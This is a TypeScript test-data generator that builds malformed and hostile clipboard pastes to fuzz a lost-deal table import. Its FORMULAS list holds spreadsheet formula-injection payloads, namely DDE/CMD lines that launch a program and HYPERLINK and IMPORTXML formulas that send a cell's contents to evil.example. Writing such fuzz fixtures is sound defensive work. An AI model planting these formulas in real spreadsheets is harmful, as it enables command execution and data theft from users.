import { HOSTILE_TEXTS } from './hostileStrings';
import {
  LOST_DEAL_DATE_COLUMN,
  LOST_DEAL_TEXT_COLUMNS,
  LOST_DEAL_VALUE_COLUMN,
  lostDealTable,
  writeTable,
  type HostilePaste,
  type PasteCategory,
  type Separator,
} from './pasteCorpusTypes';
import type { SeededRandom } from './seededRandom';

/** Spreadsheet formulas and the prefixes that make a spreadsheet treat a cell as one. */
export const FORMULAS: readonly string[] = [
  '=CMD|\' /C calc\'!A0',
  '=HYPERLINK("http://evil.example/?q="&A1,"Open")',
  '+1+1',
  '-1+1',
  '@SUM(A1:A9)',
  '=IMPORTXML(CONCAT("http://evil.example/?", A1), "//a")',
  '=1+1',
  '\t=1+1',
  '\r=1+1',
  '=DDE("cmd";"/C calc";"!A0")',
];

export const ODD_DATES: readonly string[] = [
  '2026-02-30', '31/04/2026', '29/02/2025', '0000-01-01', '0999-12-31', '9999-12-31', '10000-01-01', 'yesterday', 'today', 'mañana',
  '45000', '45000.5', '2026-01-01T10:00:00Z', '2026/01/01', '1/1/26', '01-13-2026', '2026-1-1', ' 2026-01-01 ', '2026-01-01 10:00',
  '٢٠٢٦-٠١-٠١', '２０２６-０１-０１', '2026–01–01', '2026-01-01\u200B', '\u202E10-10-2026', 'NaN', '1e309', '=TODAY()', '', '-', '00/00/0000',
];

export const ODD_NUMBERS: readonly string[] = [
  'NaN', 'Infinity', '-Infinity', '1e309', '1e21', '9007199254740993', '99999999999999999999', '9'.repeat(400), '-0', '0.0000001',
  '1.234,56', '1,234.56', '1.234.567,89', '1,23,456', '1.2.3', '(12)', '((12))', '12-', '€-5', '-€5', '--5', '+-5', '5%', '0x1F', '1_000',
  '١٢٣', '１２３', '\u22125', '5\u00A0000', '5\u202F000', "5'000", '12 USD', '12 GBP', 'EUR', '€', '$$5', '1e3', '.5', '5.', ',5', 'five',
  '=1+1', '', ' ', '\u0000', '12\u200B3',
];

type CaseMaker = (random: SeededRandom, index: number) => string;

function many(category: PasteCategory, count: number, make: CaseMaker, random: SeededRandom): HostilePaste[] {
  return Array.from({ length: count }, (_, index) => ({ name: `${category}/lost-deals-${index}`, category, aimedAt: 'lostDeals' as const, text: make(random, index) }));
}

function separatorOf(random: SeededRandom): Separator {
  return random.pick([',', ';', '\t'] as const);
}

function withCell(random: SeededRandom, column: number, value: string): string {
  const rows = lostDealTable(random, random.between(1, 6));
  const row = random.between(1, rows.length - 1);
  (rows[row] as string[])[column] = value;
  return writeTable(rows, separatorOf(random));
}

function insertAt(text: string, position: number, inserted: string): string {
  return `${text.slice(0, position)}${inserted}${text.slice(position)}`;
}

/** The hostile pastes aimed at the lost-deal import, all of small or medium size. */
export function lostDealPasteCases(random: SeededRandom): HostilePaste[] {
  return [
    ...many('valid', 40, (r) => writeTable(lostDealTable(r, r.between(1, 30)), separatorOf(r), r.pick(['\n', '\r\n']), r.chance(0.3)), random),
    ...many('unbalanced-quotes', 80, (r) => {
      let text = writeTable(lostDealTable(r, r.between(1, 8)), separatorOf(r));
      for (let count = r.between(1, 3); count > 0; count -= 1) text = insertAt(text, r.int(text.length + 1), '"');
      return text;
    }, random),
    ...many('embedded-newlines', 60, (r, index) => {
      const rows = lostDealTable(r, r.between(1, 6));
      const target = rows[r.between(1, rows.length - 1)] as string[];
      const column = r.pick([...LOST_DEAL_TEXT_COLUMNS]);
      target[column] = r.pick(['two\nlines', 'crlf\r\ninside', 'cr\ronly', '\n\n\nblank lines\n', 'ends with newline\n']);
      const text = writeTable(rows, separatorOf(r));
      // Every third one loses its quotes, as a careless copy would.
      return index % 3 === 0 ? text.replace(/"/g, '') : text;
    }, random),
    ...many('delimiter-mix', 80, (r) => {
      const rows = lostDealTable(r, r.between(2, 8));
      const [header, ...body] = rows.map((row) => writeTable([row], separatorOf(r)));
      const extra = r.pick(['', ',extra,cells', ';;;', '\t\t', ',"quoted, separator"']);
      return [header, ...body.map((line, position) => (position % 2 === 0 ? `${line}${extra}` : line.split(/[,;\t]/).slice(0, r.between(1, 7)).join(r.pick([',', ';', '\t']))))].join('\n');
    }, random),
    ...many('formula', 80, (r) => withCell(r, r.pick([...LOST_DEAL_TEXT_COLUMNS, LOST_DEAL_VALUE_COLUMN, LOST_DEAL_DATE_COLUMN]), r.pick(FORMULAS)), random),
    ...many('markup', 60, (r) => withCell(r, r.pick([...LOST_DEAL_TEXT_COLUMNS]), r.pick(HOSTILE_TEXTS)), random),
    ...many('odd-date', 100, (r, index) => withCell(r, LOST_DEAL_DATE_COLUMN, ODD_DATES[index % ODD_DATES.length] as string), random),
    ...many('odd-number', 120, (r, index) => withCell(r, LOST_DEAL_VALUE_COLUMN, ODD_NUMBERS[index % ODD_NUMBERS.length] as string), random),
    ...many('bom', 20, (r, index) => {
      const text = writeTable(lostDealTable(r, 3), separatorOf(r));
      return [`\uFEFF${text}`, `\uFEFF\uFEFF${text}`, text.replace(/\n/g, '\n\uFEFF'), insertAt(text, r.int(text.length), '\uFEFF')][index % 4] as string;
    }, random),
    ...many('line-endings', 40, (r, index) => {
      const rows = lostDealTable(r, r.between(2, 6));
      const ends = ['\r\n', '\r', '\n\r', '\u2028', '\u0085', '\r\r\n', '\n\n\n'];
      return index % 8 === 7 ? rows.map((row) => writeTable([row], ',')).map((line, position) => `${line}${position % 2 ? '\r\n' : '\r'}`).join('') : writeTable(rows, separatorOf(r), ends[index % ends.length]);
    }, random),
    ...many('nul-control', 40, (r, index) => {
      const text = writeTable(lostDealTable(r, r.between(1, 5)), index % 2 ? ',' : '\t');
      const controls = ['\u0000', '\u0001', '\u0008', '\u001B[2J', '\u007F', '\u0000\u0000\u0000', '\uFFFE', '\uDC00'];
      return insertAt(text, r.int(text.length), controls[index % controls.length] as string);
    }, random),
    ...many('invisible', 40, (r, index) => {
      const rows = lostDealTable(r, r.between(1, 4));
      const header = rows[0] as string[];
      const marks = ['\u200B', '\u200E', '\u202E', '\u00A0', '\u2060', '\u180E'];
      const mark = marks[index % marks.length] as string;
      // Into a header name (the column may no longer be recognised) or into a cell.
      if (index % 2 === 0) header[index % header.length] = insertAt(header[index % header.length] as string, 2, mark);
      else (rows[1] as string[])[index % 7] = `${mark}${(rows[1] as string[])[index % 7] ?? ''}${mark}`;
      return writeTable(rows, separatorOf(r));
    }, random),
    ...many('garbage', 60, (r) => {
      const length = r.between(1, 2000);
      let text = '';
      for (let index = 0; index < length; index += 1) text += String.fromCharCode(r.chance(0.7) ? r.between(32, 126) : r.between(0, 0xffff));
      return text;
    }, random),
    ...['', ' ', '\n\n\n', ',,,', ';;\n;;', '\t\t\t', '\uFEFF', '"', '""', '"\n"', 'Customer,Value,Date', 'Customer,Value,Date\n\n\n', 'Customer\n', 'Value,Date\n5,2026-01-01', ',,\nAcme,5,2026-01-01'].map(
      (text, index): HostilePaste => ({ name: `emptyish/lost-deals-${index}`, category: 'emptyish', aimedAt: 'lostDeals', text }),
    ),
  ];
}
